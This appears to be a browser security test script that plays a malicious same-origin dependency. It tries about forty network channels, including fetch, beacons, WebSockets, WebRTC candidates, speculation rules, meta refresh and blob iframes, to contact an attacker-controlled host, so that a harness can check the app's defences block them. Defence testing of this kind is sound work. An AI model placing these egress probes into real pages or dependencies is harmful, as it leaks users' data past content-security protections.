/**
 * The attacks, as a script of the app's own origin: what a bad dependency could do. One runs in each page, named by
 * the script element. It makes a Trusted Types policy under the name that the app uses, since the app does not run
 * here: the attacks must be stopped by more than that.
 */
const { channel, attacker, sockets, connections, stun, quic, peer } = document.currentScript.dataset;
const types = globalThis.trustedTypes?.createPolicy('hushlabel', {
  createHTML: (text) => text,
  createScript: (text) => text,
  createScriptURL: (text) => text,
});
const address = (ending = '') => `${attacker}/x/${channel}${ending}`;
const scriptAddress = (url) => types?.createScriptURL(url) ?? url;
const markup = (text) => types?.createHTML(text) ?? text;
const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/html' }));

function add(tag, properties, parent = document.body) {
  const element = Object.assign(document.createElement(tag), properties);
  parent.append(element);
  return element;
}
const link = (properties) => add('link', properties, document.head);
const picture = () => `<img src="${address('.png')}">`;

const PROBES = {
  fetch: () => fetch(address(), { mode: 'no-cors' }),
  'fetch-keepalive': () => fetch(address(), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open('GET', address());
    request.send();
  },
  beacon: () => navigator.sendBeacon(address(), 'x'),
  websocket: () => new WebSocket(`${sockets}/x/${channel}`),
  eventsource: () => new EventSource(address()),
  img: () => (new Image().src = address('.png')),
  'css-link': () => link({ rel: 'stylesheet', href: address('.css') }),
  'css-bg': () => (document.body.style.backgroundImage = `url(${address('.png')})`),
  font: () => new FontFace('x', `url(${address('.woff2')})`).load(),
  script: () => add('script', { src: scriptAddress(address('.js')) }),
  'dyn-import': () => import(scriptAddress(address('.js'))),
  worker: () => new Worker(scriptAddress(address('.js'))),
  iframe: () => add('iframe', { src: address('.html') }),
  object: () => add('object', { type: 'text/html', data: address('.html') }),
  video: () => add('video', { src: address('.mp4'), autoplay: true, muted: true }),
  'svg-image': () => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', address('.png'));
    svg.append(image);
    document.body.append(svg);
  },
  'link-prefetch': () => link({ rel: 'prefetch', href: address('.html') }),
  'link-preload': () => link({ rel: 'preload', as: 'image', href: address('.png') }),
  modulepreload: () => link({ rel: 'modulepreload', href: address('.js') }),
  preconnect: () => link({ rel: 'preconnect', href: connections }),
  icon: () => {
    document.querySelector('link[rel=icon]')?.remove();
    link({ rel: 'icon', href: address('.png') });
  },
  manifest: () => link({ rel: 'manifest', href: address('.webmanifest') }),
  speculation: () => {
    const rules = JSON.stringify({
      prefetch: [{ source: 'list', urls: [address('.html')], eagerness: 'immediate' }],
    });
    add('script', { type: 'speculationrules', textContent: types?.createScript(rules) ?? rules });
  },
  form: () => add('form', { action: address(), method: 'post', target: '_blank' }).submit(),
  'window-open': () => window.open(address('.html')),
  'a-blank': () => add('a', { href: address('.html'), target: '_blank', rel: 'noopener' }).click(),
  'a-ping': () => add('a', { href: '#x', ping: address() }).click(),
  'a-download': () => add('a', { href: address('.bin'), download: 'x' }).click(),
  webrtc: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  // Two ends in one page agree on a connection; then one is told that the other can also be reached at the attacker.
  'webrtc-peer': async () => {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
    here.createDataChannel('x');
    await here.setLocalDescription(await here.createOffer());
    await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription(await there.createAnswer());
    await here.setRemoteDescription(there.localDescription);
    await here.addIceCandidate({ candidate: `candidate:1 1 udp 2130706431 ${peer} typ host`, sdpMid: '0' });
  },
  webtransport: () => new WebTransport(`${quic}/x/${channel}`).ready,
  'iframe-srcdoc-img': () => add('iframe', { srcdoc: markup(picture()) }),
  'iframe-blob': () => add('iframe', { src: blob(picture()) }),
  'window-open-blob': () => window.open(blob(picture())),
  'iframe-same-origin': () => add('iframe', { src: `/armour/other.html?${channel}` }),
  'popup-same-origin': () => window.open(`/armour/other.html?${channel}`),
  'worker-same-origin': () => new Worker(scriptAddress(`/armour/other.js?${channel}`)),
  'location-assign': () => location.assign(address('.html')),
  'meta-refresh': () =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${address('.html')}`,
      }),
    ),
  'iframe-blob-refresh': () =>
    add('iframe', { src: blob(`<meta http-equiv="refresh" content="0;url=${address('.html')}">`) }),
  'iframe-blob-nested': () =>
    add('iframe', {
      src: blob(`<iframe src="${address('.html')}"></iframe><object data="${address('.html')}"></object>`),
    }),
};

// Asked of our own origin, which every policy allows: the proof that the attack was tried.
async function run() {
  const probe = PROBES[channel];
  if (probe === undefined) throw new Error(`no probe ${channel}`);
  await fetch(`/armour/ran/${channel}`);
  await probe();
}

// Refusals are what is hoped for: they end here, and the attacker's log tells whether they held.
run().catch((error) => console.log(`${channel}: ${error.name}`));
